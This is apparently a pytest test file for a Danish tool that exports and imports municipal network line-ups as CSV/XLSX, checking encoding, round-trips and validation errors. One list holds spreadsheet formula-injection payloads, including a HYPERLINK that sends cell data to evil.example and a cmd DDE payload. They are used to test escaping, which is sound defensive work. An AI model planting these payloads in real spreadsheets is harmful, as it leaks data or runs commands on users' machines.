import csv
import dataclasses
import io
from pathlib import Path

import pytest
from openpyxl import Workbook

from kldocs.danish.formatting import Noun
from kldocs.engine.cleantext import csv_cell
from kldocs.errors import InputError
from kldocs.networks.csvfile import lineup_csv, read_lineup, restored, write_lineup

DATA = Path(__file__).parents[1] / "data" / "networks"
EDITED = DATA / "edited-cp1252.csv"


def read(path, example, program, **kw):
    return read_lineup(path, example, program.networks.model_copy(update=kw) if kw else program.networks,
                       catalogue=program.focus_areas.catalogue)


def edited(tmp_path: Path, *replacements: tuple[str, str], name: str = "networks.csv") -> Path:
    """The consultant's edited line-up with some text replaced, as Excel saves it (cp1252, ;)."""
    text = EDITED.read_bytes().decode("cp1252")
    for old, new in replacements:
        assert old in text, old
        text = text.replace(old, new)
    path = tmp_path / name
    path.write_bytes(text.encode("cp1252"))
    return path


def problems(path, example, program, **kw) -> list[str]:
    with pytest.raises(InputError) as info:
        read(path, example, program, **kw)
    return info.value.problems


class DescribeWriting:
    def it_writes_danish_excel_csv(self, lineup):
        data = lineup_csv(lineup, 5)
        assert data.startswith(b"\xef\xbb\xbfKode;Kommune;Region;Netv\xc3\xa6rk;Netv\xc3\xa6rkets indsatsomr\xc3\xa5de 1;")
        assert data.count(b"\r\n") == 25
        lines = data.decode("utf-8-sig").splitlines()
        assert lines[0].split(";")[-1] == "Netværkets indsatsområde 5"
        first = lines[1].split(";")
        assert first[3] == "1"
        assert first[4] == lineup.networks[0].focus_areas[0].title

    def it_lists_members_by_network_in_danish_order_with_four_digit_codes(self, lineup):
        rows = [line.split(";") for line in lineup_csv(lineup, 5).decode("utf-8-sig").splitlines()[1:]]
        assert [int(r[3]) for r in rows] == sorted(int(r[3]) for r in rows)
        assert all(len(r[0]) == 4 for r in rows)
        assert [r[1] for r in rows[:8]] == [m.name for m in lineup.networks[0].municipalities]


class DescribeRoundTrip:
    def it_reads_back_what_it_wrote(self, lineup, example, program, tmp_path):
        back = read(write_lineup(lineup, tmp_path / "networks.csv"), example, program)
        assert back.assignment == lineup.assignment
        assert [n.focus_areas for n in back] == [n.focus_areas for n in lineup]
        assert back.score == lineup.score
        assert back.source == tmp_path / "networks.csv"

    def it_heads_the_focus_areas_by_the_programmes_own_word_and_reads_them_back(self, lineup, example, program,
                                                                               tmp_path):
        data = lineup_csv(lineup, 5, Noun("tema", "temaer", neuter=True))
        assert data.decode("utf-8-sig").splitlines()[0].endswith(";Netværkets tema 1;Netværkets tema 2;"
                                                                  "Netværkets tema 3;Netværkets tema 4;"
                                                                  "Netværkets tema 5")
        (tmp_path / "networks.csv").write_bytes(data)
        back = read(tmp_path / "networks.csv", example, program)
        assert [n.focus_areas for n in back] == [n.focus_areas for n in lineup]

    def it_reads_a_copy_saved_by_excel_as_xlsx(self, lineup, example, program, tmp_path):
        book = Workbook()
        sheet = book.active
        lines = lineup_csv(lineup, 5).decode("utf-8-sig").splitlines()
        sheet.append(lines[0].split(";"))
        for line in lines[1:]:
            cells = line.split(";")
            sheet.append([int(cells[0]), *cells[1:3], int(cells[3]), *(c or None for c in cells[4:])])
        book.save(tmp_path / "networks.xlsx")
        assert read(tmp_path / "networks.xlsx", example, program).assignment == lineup.assignment


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1;"Klik")', "+45 børn i trivsel", "-10 % fravær",
            "@SUM(A1:A9)", "'=allerede med apostrof", "=cmd|' /C calc'!A0"]


def with_titles(lineup, program, titles):
    """``lineup`` with its focus areas retitled, and the catalogue they come from."""
    areas = {a.id: a.model_copy(update={"title": titles[i % len(titles)] + ("" if i < len(titles) else f" {i}")})
             for i, a in enumerate(program.focus_areas.catalogue)}
    networks = tuple(dataclasses.replace(n, focus_areas=tuple(areas[a.id] for a in n.focus_areas))
                     for n in lineup.networks)
    return dataclasses.replace(lineup, networks=networks), tuple(areas.values())


class DescribeCsvInjection:
    @pytest.mark.parametrize("text", ["=1+2", "+45", "-x", "@SUM(A1)", "\tx", "\rx", "'=x", "''@x"])
    def it_puts_a_quote_before_what_excel_could_run_and_takes_it_off_again(self, text):
        assert csv_cell(text) == "'" + text
        assert restored(csv_cell(text)) == text

    @pytest.mark.parametrize("cell", ["Odense", "'citat", "Lyngby-Taarbæk", "", 3, None, "a=b"])
    def it_leaves_everything_else_alone(self, cell):
        assert csv_cell(cell) == cell
        assert restored(cell) == cell

    def it_writes_no_cell_excel_would_run(self, lineup, program):
        hostile, _ = with_titles(lineup, program, FORMULAS)
        rows = list(csv.reader(io.StringIO(lineup_csv(hostile, 5).decode("utf-8-sig")), delimiter=";"))
        cells = [c for row in rows for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
        written = {c for c in cells if c.startswith("'")}
        used = {a.title for n in hostile.networks for a in n.focus_areas}
        assert written == {"'" + t for t in used}

    def it_reads_back_the_titles_it_csv_cell(self, lineup, example, program, tmp_path):
        hostile, catalogue = with_titles(lineup, program, FORMULAS)
        path = write_lineup(hostile, tmp_path / "networks.csv")
        back = read_lineup(path, example, program.networks, catalogue=catalogue)
        assert [[a.title for a in n.focus_areas] for n in back] == [[a.title for a in n.focus_areas] for n in hostile]
        assert back.assignment == hostile.assignment

    def it_reads_back_a_copy_excel_saved_as_xlsx_with_the_quotes_as_text(self, lineup, example, program, tmp_path):
        hostile, catalogue = with_titles(lineup, program, FORMULAS)
        book = Workbook()
        for row in csv.reader(io.StringIO(lineup_csv(hostile, 5).decode("utf-8-sig")), delimiter=";"):
            book.active.append([int(c) if c.isdigit() else c or None for c in row])
        book.save(tmp_path / "networks.xlsx")
        back = read_lineup(tmp_path / "networks.xlsx", example, program.networks, catalogue=catalogue)
        assert [n.focus_areas for n in back] == [n.focus_areas for n in hostile]


class DescribeAHandEditedLineup:
    def it_reads_the_consultants_edit(self, example, program):
        result = read(EDITED, example, program)
        assert result.sizes == (8, 8, 8)
        assert result.network_of("Frederiksberg").number == 1
        assert result.network_of("Vesthimmerlands").number == 3

    def it_keeps_the_focus_areas_the_consultant_wrote(self, example, program):
        result = read(EDITED, example, program)
        assert [a.id for a in result.networks[0].focus_areas] == ["mellemformer", "tvaerfagligt", "co-teaching"]

    def it_chooses_focus_areas_where_the_consultant_left_them_empty(self, example, program):
        result = read(EDITED, example, program)
        assert 3 <= len(result.networks[1].focus_areas) <= 5

    def it_reports_figures_per_network(self, example, program):
        result = read(EDITED, example, program)
        for network in result:
            assert network.score.mean_km > 0
            assert network.score.max_km >= network.score.mean_km
        assert result.networks[0].score.max_km < 80  # the capital area: Helsingør to Køge is the longest

    def it_finds_municipalities_by_name_when_the_code_is_empty(self, example, program, tmp_path):
        path = edited(tmp_path, ("101;København", ";kobenhavn"))
        assert read(path, example, program).network_of("København").number == 1

    def it_accepts_network_numbers_as_excel_and_people_write_them(self, example, program, tmp_path):
        path = edited(tmp_path, ("Region Hovedstaden;1;", "Region Hovedstaden;Netværk 1;"))
        assert read(path, example, program).sizes == (8, 8, 8)


class DescribeProblems:
    def it_names_an_unknown_municipality_with_suggestions(self, example, program, tmp_path):
        path = edited(tmp_path, ("147;Frederiksberg", ";Frederiksbjerg"))
        assert problems(path, example, program) == [
            "networks.csv, row 3, Kommune: 'Frederiksbjerg' is not a municipality "
            "(did you mean Frederiksberg, Fredensborg or Frederikssund?)",
            "networks.csv: Frederiksberg registered but is in no network; add a row for each",
            "networks.csv, Netværk: network 1 has 7 members (rows 2, 4, 5, 6, 7, 8, 9), "
            "but networks have 8–10 members (program.yaml, networks.min_size/max_size)",
        ]

    def it_names_an_unknown_code(self, example, program, tmp_path):
        path = edited(tmp_path, ("147;Frederiksberg", "9999;Frederiksberg"))
        assert problems(path, example, program)[0] == "networks.csv, row 3, Kode: '9999' is not the code of a municipality"

    def it_refuses_a_code_and_name_that_disagree(self, example, program, tmp_path):
        path = edited(tmp_path, ("147;Frederiksberg", "751;Frederiksberg"))
        assert problems(path, example, program)[0] == (
            "networks.csv, row 3, Kode: 751 is the code of Aarhus, but Kommune says Frederiksberg"
        )

    def it_refuses_a_municipality_listed_twice(self, example, program, tmp_path):
        path = edited(tmp_path, ("147;Frederiksberg", "101;København"))
        assert problems(path, example, program)[:2] == [
            "networks.csv, row 3, Kommune: København is listed twice (also in row 2)",
            "networks.csv: Frederiksberg registered but is in no network; add a row for each",
        ]

    def it_refuses_a_municipality_that_has_not_registered(self, example, program, tmp_path):
        path = edited(tmp_path, ("147;Frederiksberg", "779;Skive"))
        assert problems(path, example, program)[0] == (
            "networks.csv, row 3, Kommune: Skive has not registered for the partnership; remove the row"
        )

    def it_refuses_a_network_of_the_wrong_size(self, example, program, tmp_path):
        path = edited(tmp_path, ("147;Frederiksberg;Region Hovedstaden;1", "147;Frederiksberg;Region Hovedstaden;2"))
        assert problems(path, example, program) == [
            "networks.csv, Netværk: network 1 has 7 members (rows 2, 4, 5, 6, 7, 8, 9), "
            "but networks have 8–10 members (program.yaml, networks.min_size/max_size)",
        ]

    def it_measures_sizes_against_the_settings(self, example, program, tmp_path):
        path = edited(tmp_path, ("147;Frederiksberg;Region Hovedstaden;1", "147;Frederiksberg;Region Hovedstaden;2"))
        assert read(path, example, program, min_size=7).sizes == (7, 9, 8)

    def it_refuses_a_gap_in_the_network_numbers(self, example, program, tmp_path):
        text = EDITED.read_bytes().decode("cp1252").replace(";3;", ";4;")
        path = tmp_path / "networks.csv"
        path.write_bytes(text.encode("cp1252"))
        assert problems(path, example, program) == [
            "networks.csv, Netværk: networks are numbered 1, 2, 4; number them 1, 2, … without gaps (3 is missing)"
        ]

    def it_refuses_a_network_number_that_is_not_one(self, example, program, tmp_path):
        path = edited(tmp_path, ("147;Frederiksberg;Region Hovedstaden;1", "147;Frederiksberg;Region Hovedstaden;en"))
        assert problems(path, example, program)[0] == "networks.csv, row 3, Netværk: 'en' is not a network number (1, 2, …)"

    def it_names_an_unknown_focus_area_with_suggestions(self, example, program, tmp_path):
        path = edited(tmp_path, ("Co-teaching i dagtilbud;;", "Co-teching;;"))
        assert problems(path, example, program)[0] == (
            "networks.csv, row 2, Netværkets indsatsområde 3: 'Co-teching' is not a focus area "
            "(did you mean 'Co-teaching i dagtilbud'?)"  # by its title, once: not by id and title too
        )

    def it_refuses_different_focus_areas_within_one_network(self, example, program, tmp_path):
        text = EDITED.read_bytes().decode("cp1252").replace("Co-teaching i dagtilbud;;", "ledelse;;", 1)
        text = text.replace("Mellemformer i dagtilbud og kommunal tilbudsvifte;", "mellemformer;")
        path = tmp_path / "networks.csv"
        path.write_bytes(text.encode("cp1252"))
        assert problems(path, example, program) == [
            "networks.csv, row 3, Netværkets indsatsområde: network 1's focus areas differ from row 2; "
            "give every member of a network the same focus areas, or leave them empty"
        ]

    def it_refuses_too_few_focus_areas(self, example, program, tmp_path):
        path = edited(tmp_path, *[(";Co-teaching i dagtilbud;;", ";;;")])
        text = path.read_bytes().decode("cp1252").replace(";Co-teaching i dagtilbud;;", ";;;")
        path.write_bytes(text.encode("cp1252"))
        assert problems(path, example, program) == [
            "networks.csv, row 2, Netværkets indsatsområde: network 1 has 2 focus areas; a network has 3–5 "
            "(program.yaml, networks.min_focus_areas/max_focus_areas)"
        ]

    def it_refuses_a_line_up_that_breaks_the_constraints_of_program_yaml(self, example, program, tmp_path):
        assert problems(edited(tmp_path), example, program, pin={"Aarhus": 1}, together=(("Odense", "Aarhus"),),
                        apart=(("København", "Frederiksberg"),)) == [
            "networks.csv, Netværk: Aarhus is in network 3, but program.yaml networks.pin puts it in network 1",
            "networks.csv, Netværk: Odense and Aarhus are in networks 2 and 3, but program.yaml networks.together "
            "keeps them in one",
            "networks.csv, Netværk: København and Frederiksberg are both in network 1, but program.yaml "
            "networks.apart keeps them apart",
        ]

    def it_refuses_a_file_without_a_network_column(self, example, program, tmp_path):
        path = edited(tmp_path, ("Region;Netværk;", "Region;Netvrk;"))
        assert problems(path, example, program) == [
            "networks.csv, row 1: the column 'Netværk' is missing (did you mean 'Netvrk'?)"
        ]

    def it_refuses_an_empty_file(self, example, program, tmp_path):
        path = tmp_path / "networks.csv"
        path.write_bytes("Kode;Kommune;Region;Netværk\r\n".encode("cp1252"))
        assert problems(path, example, program) == ["networks.csv: has no municipalities below its headings"]
